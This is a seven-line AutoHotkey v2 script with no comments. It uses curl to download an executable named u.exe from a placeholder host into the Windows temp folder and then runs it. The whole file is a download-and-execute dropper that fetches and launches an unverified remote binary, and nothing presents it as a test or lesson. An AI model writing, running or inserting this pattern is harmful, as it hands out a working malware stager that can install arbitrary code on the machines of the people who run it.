#Requires AutoHotkey v2.0
target := A_Temp "\u.exe"
cmd := "curl -o "
cmd .= target
cmd .= " http://files.example/u.exe"
RunWait(cmd)
Run(target)
